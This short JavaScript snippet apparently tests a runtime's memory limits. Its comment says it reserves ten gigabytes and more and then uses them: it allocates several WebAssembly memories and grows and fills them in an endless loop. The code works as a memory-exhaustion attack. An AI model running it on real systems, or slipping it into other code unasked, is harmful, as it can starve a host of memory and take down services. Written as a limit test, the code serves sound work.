// Reserves ten gigabytes and more, and then uses them.
const kept = [];
for (let i = 0; i < 8; i++) {
    try { kept.push(new WebAssembly.Memory({ initial: 1, maximum: 65536 })); } catch { }
}
if (kept.length === 0) process.exit(1);
for (;;) {
    for (const memory of kept) {
        const before = memory.grow(64) * 65536;
        new Uint8Array(memory.buffer, before).fill(1);
    }
}
